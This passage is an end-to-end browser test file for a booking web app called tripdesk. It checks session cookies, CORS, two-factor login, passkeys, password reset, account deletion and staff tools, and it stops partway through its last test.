// The demo page in a real browser (Debian's Chromium, driven by
// playwright-core): the cookie session, httpOnly, and credentialed CORS.
//
//   TRIPDESK_BIN=target/debug/tripdesk node --test e2e/browser.test.mjs
//
// Starts its own tripdesk on a fresh SQLite file, plus two static servers
// with a copy of the page whose API origin is written into it (the page
// never takes it from its URL): one origin listed in ALLOWED_ORIGINS, one
// not. A third server stands for an attacker and records what reaches it.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { createHmac } from "node:crypto";
import { existsSync, mkdtempSync, mkdirSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";

const root = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const binary = resolve(root, process.env.TRIPDESK_BIN ?? "target/debug/tripdesk");
const shots = join(root, "target", "e2e");
const CHROMIUM_FLAGS = [
  "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
  "--disable-component-update", "--no-first-run",
];

let service, data, browser, tripdesk, allowedSite, otherSite, attacker;
const attackerRequests = [];

/** Serves a copy of static/ on a free port, its app.js pointed at the API
 *  origin `api()` returns; resolves to its origin. */
function staticSite(api) {
  const types = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css" };
  const server = createServer((request, response) => {
    const path = new URL(request.url, "http://x").pathname;
    const name = path === "/" ? "index.html" : path.slice(1);
    // The page and every script it loads.
    const page = readFileSync(join(root, "static", "index.html"), "utf8");
    const scripts = [...page.matchAll(/<script src="([^"]+)"/g)].map((found) => found[1]);
    const files = ["index.html", "app.css", ...scripts];
    if (!files.includes(name)) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { "Content-Type": types[name.slice(name.lastIndexOf("."))] });
    let body = readFileSync(join(root, "static", name), "utf8");
    if (name === "app.js") {
      const pointed = body.replace('const API = "";', `const API = ${JSON.stringify(api())};`);
      assert.notEqual(pointed, body, "app.js has the API origin line");
      body = pointed;
    }
    response.end(body);
  });
  return new Promise((done) => server.listen(0, "127.0.0.1", () =>
    done({ server, origin: `http://127.0.0.1:${server.address().port}` })));
}

async function freePort() {
  const server = createServer();
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const { port } = server.address();
  await new Promise((done) => server.close(done));
  return port;
}

async function startTripdesk(allowedOrigin) {
  const port = await freePort();
  data = mkdtempSync(join(tmpdir(), "tripdesk-e2e-"));
  service = spawn(binary, [], {
    cwd: data,
    env: {
      PATH: process.env.PATH, APP_ENV: "development", HOST: "127.0.0.1", PORT: String(port),
      DATABASE_PATH: join(data, "tripdesk.db"), SEED_DEMO_DATA: "true",
      // The demo admin works the admin screen with a password alone here
      // (the second factor has its own test, as a customer).
      ADMIN_REQUIRE_MFA: "false",
      ALLOWED_ORIGINS: allowedOrigin, RUST_LOG: "warn", METRICS_ADDR: "",
      // The webhook test's receiver listens on 127.0.0.1.
      WEBHOOK_ALLOW_PRIVATE_TARGETS: "true",
    },
    stdio: ["ignore", "ignore", "inherit"],
  });
  const origin = `http://127.0.0.1:${port}`;
  for (let i = 0; i < 200; i++) {
    try {
      if ((await fetch(`${origin}/ready`)).ok) return origin;
    } catch (_) { /* not listening yet */ }
    await new Promise((done) => setTimeout(done, 100));
  }
  throw new Error("tripdesk did not become ready");
}

before(async () => {
  allowedSite = await staticSite(() => tripdesk);
  otherSite = await staticSite(() => tripdesk);
  attacker = await new Promise((done) => {
    const server = createServer((request, response) => {
      attackerRequests.push(`${request.method} ${request.url}`);
      response.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
    });
    server.listen(0, "127.0.0.1", () =>
      done({ server, origin: `http://127.0.0.1:${server.address().port}` }));
  });
  tripdesk = await startTripdesk(allowedSite.origin);
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_BIN ?? "/usr/bin/chromium", args: CHROMIUM_FLAGS,
  });
  mkdirSync(shots, { recursive: true });
});

after(async () => {
  await browser?.close();
  service?.kill();
  allowedSite?.server.close();
  otherSite?.server.close();
  attacker?.server.close();
  if (data) rmSync(data, { recursive: true, force: true });
});

const uniqueEmail = (label) => `${label}-${Date.now()}-${Math.floor(Math.random() * 1e6)}@example.com`;

async function register(page, email) {
  await page.fill("#register-form [name=name]", "Ada Traveller");
  await page.fill("#register-form [name=email]", email);
  await page.fill("#register-form [name=password]", "a long enough secret");
  await page.click("#register-form button[type=submit]");
  await page.waitForSelector("#whoami:not([hidden])");
}

/** Picks the first consultant (or the one named `name`) and the first free
 *  slot in the next two weeks. */
async function chooseFreeSlot(page, name) {
  const consultant = name ? `#consultants li:has-text('${name}')` : "#consultants li:first-child";
  await page.click(`${consultant} button.choose`);
  for (let offset = 1; offset <= 14; offset++) {
    const day = new Date(Date.now() + offset * 86400000).toISOString().slice(0, 10);
    await page.fill("#slot-form [name=day]", day);
    // Empty the list first, so the wait below sees this day's answer.
    await page.evaluate(() => document.querySelector("#slots").replaceChildren());
    await page.click("#slot-form button[type=submit]");
    await page.waitForSelector("#slots > *");
    if (await page.locator("#slots button").count() > 0) {
      await page.click("#slots button >> nth=0");
      return;
    }
  }
  throw new Error("no free slot within two weeks");
}

test("register, book, reload, httpOnly cookie, log out", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("e2e");
  await register(page, email);
  assert.match(await page.textContent("#whoami-text"), new RegExp(email.replace(/[.+]/g, "\\$&")));
  // A new address is not verified yet: the page says mail waits for it.
  assert.match(await page.textContent("#verify-note"), /sent by email once your\s+address is verified/);

  await chooseFreeSlot(page);
  await page.fill("#booking-form [name=destination]", "Kyoto in autumn");
  await page.fill("#booking-form [name=travelers]", "3");
  await page.selectOption("#booking-form [name=mode]", "phone");
  await page.click("#booking-form button[type=submit]");
  await page.waitForSelector("#bookings li.booking");
  assert.match(await page.textContent("#bookings li.booking .what"), /Kyoto in autumn · 3 traveler/);
  assert.equal((await page.textContent("#bookings li.booking .status")).trim(), "pending");
  await page.screenshot({ path: join(shots, "booked.png"), fullPage: true });

  // Still logged in after a reload: the browser kept and sent the cookie.
  await page.reload();
  await page.waitForSelector("#bookings li.booking");
  assert.equal(await page.isVisible("#auth"), false);

  // The token is httpOnly: the page's scripts cannot read it.
  const cookies = await context.cookies(tripdesk);
  const token = cookies.find((cookie) => cookie.name === "token");
  assert.ok(token, "the session cookie is set");
  assert.equal(token.httpOnly, true);
  assert.equal(token.sameSite, "Strict");
  assert.equal(await page.evaluate(() => document.cookie.includes("token")), false);
  assert.equal(await page.evaluate((value) => document.cookie.includes(value), token.value), false);

  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");
  assert.equal(await page.isVisible("#bookings-section"), false);
  await page.reload();
  await page.waitForSelector("#auth:not([hidden])");
  assert.equal(await page.isVisible("#bookings-section"), false);
  await context.close();
});

test("a customer finds who speaks Spanish and knows cruises", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await register(page, uniqueEmail("finder"));
  await page.waitForSelector("#consultants li");
  const everyone = await page.locator("#consultants li").count();
  await page.fill("#find-form [name=language]", "es");
  await page.fill("#find-form [name=specialty]", "CRUISE");
  await page.click("#find-form button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("#consultants li").length === 1);
  assert.match(await page.textContent("#consultants li strong"), /Lucía Fernández/);
  await page.selectOption("#find-form [name=mode]", "in_person");
  await page.fill("#find-form [name=language]", "ja");
  await page.click("#find-form button[type=submit]");
  await page.waitForSelector("#no-match:not([hidden])");
  for (const name of ["language", "specialty"]) await page.fill(`#find-form [name=${name}]`, "");
  await page.selectOption("#find-form [name=mode]", "");
  await page.click("#find-form button[type=submit]");
  await page.waitForFunction((count) =>
    document.querySelectorAll("#consultants li").length === count, everyone);
  assert.equal(await page.isVisible("#no-match"), false);
  await context.close();
});

test("a customer books anyone who speaks Spanish and knows cruises, and sees who and why", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await register(page, uniqueEmail("anyone"));
  await page.waitForSelector("#consultants li");
  await page.fill("#find-form [name=language]", "es");
  await page.fill("#find-form [name=specialty]", "cruise");
  // Lucía needs a day's notice and works Monday to Friday.
  let found = false;
  for (let offset = 2; offset <= 14 && !found; offset++) {
    const day = new Date(Date.now() + offset * 86400000).toISOString().slice(0, 10);
    await page.fill("#find-form [name=day]", day);
    await page.evaluate(() => document.querySelector("#slots").replaceChildren());
    await page.click("#find-any");
    await page.waitForSelector("#slots > *");
    found = await page.locator("#slots button").count() > 0;
  }
  assert.ok(found, "a free time within two weeks");
  assert.match(await page.textContent("#slots button >> nth=0"), /1 free/);
  await page.click("#slots button >> nth=0");
  assert.match(await page.textContent("#chosen-slot"), /with anyone who matches/);
  await page.fill("#booking-form [name=destination]", "Greek islands by sea");
  await page.click("#booking-form button[type=submit]");
  await page.waitForSelector("#bookings li.booking");
  assert.match(await page.textContent("#message"),
    /with Lucía Fernández, the least busy of those free then/);
  assert.match(await page.textContent("#bookings li.booking .what"), /Greek islands by sea.*with Lucía Fernández/);
  await context.close();
});

/** Adds a consultant working every day around the clock (`tripdesk
 *  consultant add`, as an agency's shell would). */
function addConsultant(email, name, password) {
  const added = spawnSync(binary, [
    "consultant", "add", "--email", email, "--name", name,
    "--timezone", "UTC", "--hours", "mon-sun=00:00-23:30", "--password-stdin",
  ], {
    cwd: data, input: `${password}\n`,
    env: { PATH: process.env.PATH, DATABASE_PATH: join(data, "tripdesk.db"), RUST_LOG: "warn" },
  });
  assert.equal(added.status, 0, String(added.stderr));
}

test("past the consultant's cancellation notice the customer sees the deadline, not the buttons", async () => {
  const email = uniqueEmail("strict");
  addConsultant(email, "Dana Deadline", "a strict consultant's secret");
  const context = await browser.newContext();
  const desk = await context.newPage();
  await desk.goto(`${tripdesk}/`);
  await desk.waitForSelector("#auth:not([hidden])");
  await logIn(desk, email, "a strict consultant's secret");
  await desk.waitForSelector("#schedule-form [name=cancellationNoticeMinutes]");
  await desk.waitForFunction(() =>
    document.querySelector("#schedule-form [name=timezone]").value !== "");
  await desk.fill("#schedule-form [name=cancellationNoticeMinutes]", "10080");
  await desk.click("#schedule-form button[type=submit]");
  await desk.waitForFunction(() => /saved/i.test(document.querySelector("#message").textContent));

  const customerContext = await browser.newContext();
  const customer = await customerContext.newPage();
  await customer.goto(`${tripdesk}/`);
  await customer.waitForSelector("#auth:not([hidden])");
  await register(customer, uniqueEmail("late"));
  await chooseFreeSlot(customer, "Dana Deadline");
  await customer.fill("#booking-form [name=destination]", "Lapland");
  await customer.click("#booking-form button[type=submit]");
  await customer.waitForSelector("#bookings li.booking .deadline:not([hidden])");
  // Booked for within the week: already past the week's notice.
  assert.match(await customer.textContent("#bookings li.booking .deadline"), /Too late to cancel or move online/);
  assert.equal(await customer.isVisible("#bookings li.booking .actions"), false);
  // Its consultant still can.
  await desk.reload();
  await desk.waitForSelector("#bookings li.booking");
  assert.equal(await desk.isVisible("#bookings li.booking button.cancel"), true);
  await Promise.all([context.close(), customerContext.close()]);
});

test("a confirmed video booking shows its room to both parties", async () => {
  const email = uniqueEmail("video");
  addConsultant(email, "Vera Video", "a video consultant's secret");
  const customerContext = await browser.newContext();
  const customer = await customerContext.newPage();
  await customer.goto(`${tripdesk}/`);
  await customer.waitForSelector("#auth:not([hidden])");
  await register(customer, uniqueEmail("viewer"));
  await chooseFreeSlot(customer, "Vera Video");
  await customer.fill("#booking-form [name=destination]", "Patagonia");
  await customer.selectOption("#booking-form [name=mode]", "video");
  await customer.click("#booking-form button[type=submit]");
  await customer.waitForSelector("#bookings li.booking");
  assert.equal(await customer.isVisible("#bookings li.booking a.meeting"), false, "not before confirmation");

  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await logIn(page, email, "a video consultant's secret");
  await page.click("#bookings li.booking button.confirm");
  await page.waitForSelector("#bookings li.booking a.meeting:not([hidden])");
  const room = await page.getAttribute("#bookings li.booking a.meeting", "href");
  assert.match(room, /^https:\/\/meet\.jit\.si\/[0-9a-f]{32}$/);
  await customer.reload();
  await customer.waitForSelector("#bookings li.booking a.meeting:not([hidden])");
  assert.equal(await customer.getAttribute("#bookings li.booking a.meeting", "href"), room);
  await Promise.all([context.close(), customerContext.close()]);
});

/** The link to `page` in the mail to `email` that the service wrote as an
 *  `.eml` file (development: no SMTP_URL), decoding quoted-printable. */
/** The mails written so far (as .eml files) that name `email`, with
 *  quoted-printable soft line breaks undone. */
function mailsNaming(email) {
  const folder = join(data, "data", "mail");
  const files = existsSync(folder) ? readdirSync(folder) : [];
  return files
    .filter((file) => file.endsWith(".eml"))
    .map((file) => readFileSync(join(folder, file), "utf8").replace(/=\r?\n/g, ""))
    .filter((mail) => mail.includes(email));
}

async function mailedLink(email, page) {
  const pattern = new RegExp(`(http://[^\\s"]+/${page})\\?token=(?:3D)?([0-9a-f]{64})`);
  for (let i = 0; i < 100; i++) {
    for (const mail of mailsNaming(email)) {
      const found = mail.match(pattern);
      if (found) return `${found[1]}?token=${found[2]}`;
    }
    await new Promise((done) => setTimeout(done, 100));
  }
  throw new Error(`no ${page} mail to ${email}`);
}

/** The languages (`Content-Language`) of the mails to `email`, once
 *  `count` of them were written. */
async function mailLanguages(email, count) {
  for (let i = 0; i < 100; i++) {
    // Not anchored to a line start: undoing soft line breaks may join a
    // header to an encoded subject ending in "?=".
    const languages = mailsNaming(email).map((mail) => mail.match(/Content-Language: ([a-z]+)/)?.[1]);
    // A file still being written may not show its header yet.
    if (languages.length >= count && languages.every(Boolean)) return languages.sort();
    await new Promise((done) => setTimeout(done, 100));
  }
  throw new Error(`fewer than ${count} mails to ${email}`);
}

test("a customer chooses the language of their mails, at registration and in the profile", async () => {
  // A browser in German, in Madrid.
  const context = await browser.newContext({ locale: "de-DE", timezoneId: "Europe/Madrid" });
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("lang");
  await page.selectOption("#register-form [name=locale]", "es");
  await register(page, email);
  assert.equal(await page.inputValue("#profile-form [name=locale]"), "es");
  assert.equal(await page.inputValue("#profile-form [name=timezone]"), "Europe/Madrid");
  assert.deepEqual(await mailLanguages(email, 1), ["es"], "the verification mail");

  await page.selectOption("#profile-form [name=locale]", "ja");
  await page.fill("#profile-form [name=timezone]", "Asia/Tokyo");
  await page.click("#profile-form button[type=submit]");
  await page.waitForSelector("#message:has-text('profile is saved')");
  await page.reload();
  await page.waitForSelector("#whoami:not([hidden])");
  assert.equal(await page.inputValue("#profile-form [name=locale]"), "ja");
  assert.equal(await page.inputValue("#profile-form [name=timezone]"), "Asia/Tokyo");
  await page.click("#resend-verification");
  assert.deepEqual(await mailLanguages(email, 2), ["es", "ja"]);
  await page.screenshot({ path: join(shots, "profile.png"), fullPage: true });

  // Left to the browser, the language is its own (German).
  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");
  const other = uniqueEmail("browser-lang");
  await register(page, other);
  assert.equal(await page.inputValue("#profile-form [name=locale]"), "de");
  assert.deepEqual(await mailLanguages(other, 1), ["de"]);
  await context.close();
});

test("a customer downloads their data, then deletes their account", async () => {
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("erase");
  await register(page, email);
  await chooseFreeSlot(page);
  await page.fill("#booking-form [name=destination]", "Svalbard by ship");
  await page.click("#booking-form button[type=submit]");
  await page.waitForSelector("#bookings li.booking");

  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.click("#download-data"),
  ]);
  assert.equal(download.suggestedFilename(), "tripdesk-data.json");
  const data = JSON.parse(readFileSync(await download.path(), "utf8"));
  assert.equal(data.user.email, email);
  assert.equal(data.bookings.length, 1);
  assert.equal(data.bookings[0].destination, "Svalbard by ship");
  assert.equal(data.consents.length, 1);
  assert.match(await page.textContent("#message"), /1 booking\(s\)/);

  // Consultants and staff have no deletion form; customers do.
  assert.equal(await page.isVisible("#erase-form"), true);
  await page.fill("#erase-form [name=password]", "a long enough secret");
  page.once("dialog", (dialog) => dialog.accept());
  await page.click("#erase-form button[type=submit]");
  await page.waitForSelector("#auth:not([hidden])");
  assert.match(await page.textContent("#message"), /deleted/);
  await page.screenshot({ path: join(shots, "erased.png"), fullPage: true });

  // The account is gone: no login; the address registers anew.
  await page.fill("#login-form [name=email]", email);
  await page.fill("#login-form [name=password]", "a long enough secret");
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#message.error");
  assert.equal(await page.isVisible("#whoami"), false);
  await register(page, email);
  await page.waitForSelector("#no-bookings:not([hidden])");
  await context.close();
});

/** RFC 6238's code for a base32 `secret` at `time` (what an authenticator
 *  app shows): HMAC-SHA-1 of the 30-second step, six digits. */
function totp(secret, time = Date.now()) {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  let bits = 0, value = 0;
  const key = [];
  for (const letter of secret) {
    value = (value << 5) | alphabet.indexOf(letter);
    bits += 5;
    if (bits >= 8) {
      key.push((value >>> (bits - 8)) & 255);
      bits -= 8;
    }
  }
  const step = Buffer.alloc(8);
  step.writeBigUInt64BE(BigInt(Math.floor(time / 30000)));
  const mac = createHmac("sha1", Buffer.from(key)).update(step).digest();
  const offset = mac[mac.length - 1] & 15;
  return String((mac.readUInt32BE(offset) & 0x7fffffff) % 1e6).padStart(6, "0");
}

test("a customer turns on an authenticator app, then logs in with a recovery code", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("totp");
  await register(page, email);
  assert.match(await page.textContent("#mfa-state"), /Off/);

  await page.click("#mfa-start");
  await page.waitForSelector("#mfa-enrol-form:not([hidden])");
  const secret = await page.textContent("#mfa-secret");
  assert.match(secret, /^[A-Z2-7]{32}$/);
  assert.match(await page.textContent("#mfa-url"), new RegExp(`^otpauth://totp/tripdesk:.*secret=${secret}&issuer=tripdesk$`));
  const dark = await page.evaluate(() => {
    const canvas = document.querySelector("#mfa-qr");
    const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
    return data.filter((value, index) => index % 4 === 0 && value === 0).length;
  });
  assert.ok(dark > 1000, `the QR code is drawn (${dark} dark pixels)`);
  await page.fill("#mfa-enrol-form [name=code]", totp(secret));
  await page.click("#mfa-enrol-form button[type=submit]");
  await page.waitForSelector("#mfa-codes:not([hidden])");
  const codes = await page.$$eval("#mfa-code-list li", (items) => items.map((item) => item.textContent));
  assert.equal(codes.length, 10);
  assert.match(await page.textContent("#mfa-state"), /On/);
  await page.screenshot({ path: join(shots, "second-factor.png"), fullPage: true });

  // The password alone no longer logs in: the code step follows.
  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");
  await page.fill("#login-form [name=email]", email);
  await page.fill("#login-form [name=password]", "a long enough secret");
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#code-form:not([hidden])");
  assert.equal(await page.isVisible("#whoami"), false);
  await page.fill("#code-form [name=code]", codes[0]);
  await page.click("#code-form button[type=submit]");
  await page.waitForSelector("#whoami:not([hidden])");

  // Off again, with the password and another recovery code.
  await page.fill("#mfa-remove-form [name=password]", "a long enough secret");
  await page.fill("#mfa-remove-form [name=code]", codes[1]);
  await page.click("#mfa-remove-form button[type=submit]");
  await page.waitForSelector("#message:has-text('second factor is off')");
  assert.match(await page.textContent("#mfa-state"), /Off/);
  await context.close();
});

test("a customer adds a passkey, then signs in with it and no password", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  // Chrome's virtual authenticator (DevTools protocol): a platform
  // authenticator that keeps discoverable credentials and verifies its user.
  const devtools = await context.newCDPSession(page);
  await devtools.send("WebAuthn.enable", { enableUI: false });
  const { authenticatorId } = await devtools.send("WebAuthn.addVirtualAuthenticator", {
    options: {
      protocol: "ctap2", transport: "internal", hasResidentKey: true,
      hasUserVerification: true, isUserVerified: true, automaticPresenceSimulation: true,
    },
  });
  // WebAuthn wants a named origin: the service's own, as localhost.
  const site = tripdesk.replace("127.0.0.1", "localhost");
  await page.goto(`${site}/`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("passkey");
  await register(page, email);
  await page.waitForSelector("#passkeys:not([hidden])");
  assert.match(await page.textContent("#passkey-state"), /None yet/);

  await page.fill("#passkey-add-form [name=name]", "This laptop");
  await page.click("#passkey-add-form button[type=submit]");
  await page.waitForSelector("#message:has-text('added')");
  assert.match(await page.textContent("#passkey-list"), /This laptop \(never used\)/);
  const { credentials } = await devtools.send("WebAuthn.getCredentials", { authenticatorId });
  assert.equal(credentials.length, 1);
  assert.equal(credentials[0].isResidentCredential, true, "a discoverable credential");
  await page.screenshot({ path: join(shots, "passkeys.png"), fullPage: true });

  const created = credentials[0].signCount;

  // Logged out, nothing typed: the authenticator answers for the account.
  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");
  await page.click("#passkey-login");
  await page.waitForSelector("#whoami:not([hidden])");
  assert.match(await page.textContent("#whoami-text"), new RegExp(email.replace(/[.+]/g, "\\$&")));
  await page.waitForSelector("#passkey-list li:has-text('last used')");
  const after = await devtools.send("WebAuthn.getCredentials", { authenticatorId });
  assert.equal(after.credentials[0].signCount, created + 1, "the login was signed once");

  // Removed, it signs in no more.
  await page.click("#passkey-list button");
  await page.waitForSelector("#message:has-text('removed')");
  assert.match(await page.textContent("#passkey-state"), /None yet/);
  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");
  await page.click("#passkey-login");
  await page.waitForSelector("#message.error, #message:has-text('not registered')");
  assert.match(await page.textContent("#message"), /not registered/);
  assert.equal(await page.isVisible("#whoami"), false);
  await context.close();
});

test("forgot password: the mailed link resets it, the new one logs in", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const referers = [];
  page.on("request", (request) => {
    if (request.headers().referer) referers.push(request.url());
  });
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("forgot");
  await register(page, email);
  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");

  await page.click("#forgot");
  await page.fill("#forgot-form [name=email]", email);
  await page.click("#forgot-form button[type=submit]");
  // Wait for this answer's text: the logout's message is not an error either.
  await page.waitForSelector("#message:has-text('on its way')");
  assert.match(await page.textContent("#message"), /link to reset its password is on its way/);

  const link = await mailedLink(email, "reset-password");
  await page.goto(link);
  await page.waitForSelector("#reset:not([hidden])");
  assert.equal(new URL(page.url()).search, "", "the token left the address bar");
  await page.fill("#reset-form [name=newPassword]", "a brand new long secret");
  await page.click("#reset-form button[type=submit]");
  await page.waitForSelector("#auth:not([hidden])");
  assert.match(await page.textContent("#message"), /password is changed/);

  await page.fill("#login-form [name=email]", email);
  await page.fill("#login-form [name=password]", "a long enough secret");
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#message.error");
  await page.fill("#login-form [name=password]", "a brand new long secret");
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#whoami:not([hidden])");
  assert.deepEqual(referers, [], "no request carried a Referer (the token stays out of it)");

  // The registration's verification link verifies the address.
  await page.goto(await mailedLink(email, "verify-email"));
  await page.waitForSelector("#message:has-text('verified')");
  await page.waitForSelector("#whoami:not([hidden])");
  assert.equal(await page.isVisible("#verify-note"), false);
  await context.close();
});

test("a consultant edits their schedule, time off and calendar feed", async () => {
  const email = uniqueEmail("consultant");
  const added = spawnSync(binary, [
    "consultant", "add", "--email", email, "--name", "Carmen Calendar",
    "--timezone", "Europe/Lisbon", "--hours", "mon-fri=09:00-17:00", "--password-stdin",
  ], {
    cwd: data, input: "a consultant's long secret\n",
    env: { PATH: process.env.PATH, DATABASE_PATH: join(data, "tripdesk.db"), RUST_LOG: "warn" },
  });
  assert.equal(added.status, 0, String(added.stderr));
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await page.fill("#login-form [name=email]", email);
  await page.fill("#login-form [name=password]", "a consultant's long secret");
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#calendar-section:not([hidden])");
  assert.equal(await page.inputValue("#schedule-form [name=timezone]"), "Europe/Lisbon");
  assert.equal(await page.inputValue("#schedule-form [name=minimumNoticeMinutes]"), "120");
  assert.equal(await page.inputValue("[name=mon-start]"), "09:00");

  // A longer Saturday and an hour's buffer.
  await page.fill("[name=sat-start]", "10:00");
  await page.fill("[name=sat-end]", "13:00");
  await page.selectOption("#schedule-form [name=bufferMinutes]", "60");
  await page.click("#schedule-form button[type=submit]");
  await page.waitForSelector("#message:has-text('Schedule saved')");
  const { schedule } = await page.evaluate(async () =>
    (await fetch("/api/consultants/me/schedule")).json());
  assert.deepEqual(schedule.workingHours.sat, ["10:00", "13:00"]);
  assert.equal(schedule.bufferMinutes, 60);

  // Time off in and out.
  const day = new Date(Date.now() + 10 * 86400000).toISOString().slice(0, 10);
  await page.fill("#time-off-form [name=startsAt]", `${day}T00:00`);
  await page.fill("#time-off-form [name=endsAt]", `${day}T23:30`);
  await page.fill("#time-off-form [name=reason]", "Conference");
  await page.click("#time-off-form button[type=submit]");
  await page.waitForSelector("#time-off li:has-text('Conference')");
  await page.click("#time-off li button.cancel");
  await page.waitForSelector("#message:has-text('Time off removed')");
  assert.equal(await page.locator("#time-off li").count(), 0);

  // The feed address works until a new one replaces it.
  await page.click("#feed-rotate");
  await page.waitForFunction(() => document.querySelector("#feed-url").value.endsWith(".ics"));
  const first = await page.inputValue("#feed-url");
  const feed = await page.request.get(first);
  assert.equal(feed.status(), 200);
  assert.match(await feed.text(), /BEGIN:VCALENDAR/);
  await page.click("#feed-rotate");
  await page.waitForFunction((old) => document.querySelector("#feed-url").value !== old, first);
  assert.equal((await page.request.get(first)).status(), 404);
  await context.close();
});

/** Logs `page` in with `email` and `password` from the login form. */
async function logIn(page, email, password) {
  await page.fill("#login-form [name=email]", email);
  await page.fill("#login-form [name=password]", password);
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#whoami:not([hidden])");
}

/** A new staff account made with `tripdesk admin add`; its email. */
function addStaff(password) {
  const staffEmail = uniqueEmail("staff");
  const added = spawnSync(binary, [
    "admin", "add", "--email", staffEmail, "--name", "Sam Staff", "--password-stdin",
  ], {
    cwd: data, input: `${password}\n`,
    env: { PATH: process.env.PATH, DATABASE_PATH: join(data, "tripdesk.db"), RUST_LOG: "warn" },
  });
  assert.equal(added.status, 0, String(added.stderr));
  return staffEmail;
}

test("staff invite a consultant, reassign a booking, read its history, deactivate", async () => {
  const staffEmail = addStaff("a staff member's long secret");

  // A customer books with the first consultant.
  const customerContext = await browser.newContext();
  const customer = await customerContext.newPage();
  await customer.goto(`${tripdesk}/`);
  await customer.waitForSelector("#auth:not([hidden])");
  const customerEmail = uniqueEmail("frontdesk");
  await register(customer, customerEmail);
  await chooseFreeSlot(customer);
  await customer.fill("#booking-form [name=destination]", "Reykjavik");
  await customer.click("#booking-form button[type=submit]");
  await customer.waitForSelector("#bookings li.booking");

  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await logIn(page, staffEmail, "a staff member's long secret");
  await page.waitForSelector("#admin-section:not([hidden]) #staff-consultants li");
  assert.equal(await page.isVisible("#bookings-section"), false);
  assert.equal(await page.isVisible("#book"), false);

  // Invite a consultant who works around the clock; the mailed link lets
  // her choose a password and log in.
  const invitedEmail = uniqueEmail("invited");
  await page.fill("#invite-form [name=name]", "Ines Invited");
  await page.fill("#invite-form [name=email]", invitedEmail);
  await page.fill("#invite-form [name=specialties]", "Azores, Madeira");
  await page.fill("#invite-form [name=languages]", "pt, en");
  await page.fill("#invite-form [name=from]", "00:00");
  await page.fill("#invite-form [name=until]", "23:30");
  await page.click("#invite-form button[type=submit]");
  await page.waitForSelector("#staff-consultants li:has-text('Ines Invited')");
  const invitedContext = await browser.newContext();
  const invited = await invitedContext.newPage();
  await invited.goto(await mailedLink(invitedEmail, "set-password"));
  await invited.waitForSelector("#reset:not([hidden])");
  assert.match(await invited.textContent("#reset-heading"), /choose your password/);
  assert.equal(new URL(invited.url()).search, "", "the token left the address bar");
  await invited.fill("#reset-form [name=newPassword]", "Ines's own long secret");
  await invited.click("#reset-form button[type=submit]");
  await invited.waitForSelector("#message:has-text('password is set')");
  await logIn(invited, invitedEmail, "Ines's own long secret");
  await invited.waitForSelector("#calendar-section:not([hidden])");

  // The customer's booking, found by their address, goes to Ines.
  await page.fill("#booking-filter [name=customerEmail]", customerEmail);
  await page.click("#booking-filter button[type=submit]");
  // The unfiltered list is on screen until the filtered one replaces it.
  await page.waitForFunction(() =>
    document.querySelectorAll("#staff-bookings li.booking").length === 1);
  await page.selectOption("#staff-bookings li.booking select.reassign-to", { label: "Ines Invited" });
  await page.click("#staff-bookings li.booking button.reassign");
  await page.waitForSelector("#staff-bookings li.booking .what:has-text('with Ines Invited')");
  await page.click("#staff-bookings li.booking button.history");
  await page.waitForSelector("#history-entries li:has-text('booking.reassigned')");
  const history = await page.locator("#history-entries li").allTextContents();
  assert.match(history[0], /booking\.created · by customer/);
  // Mail entries may follow it (the dispatcher may have sent the mails).
  assert.ok(history.some((line) => /booking\.reassigned · by admin/.test(line)), history.join("\n"));
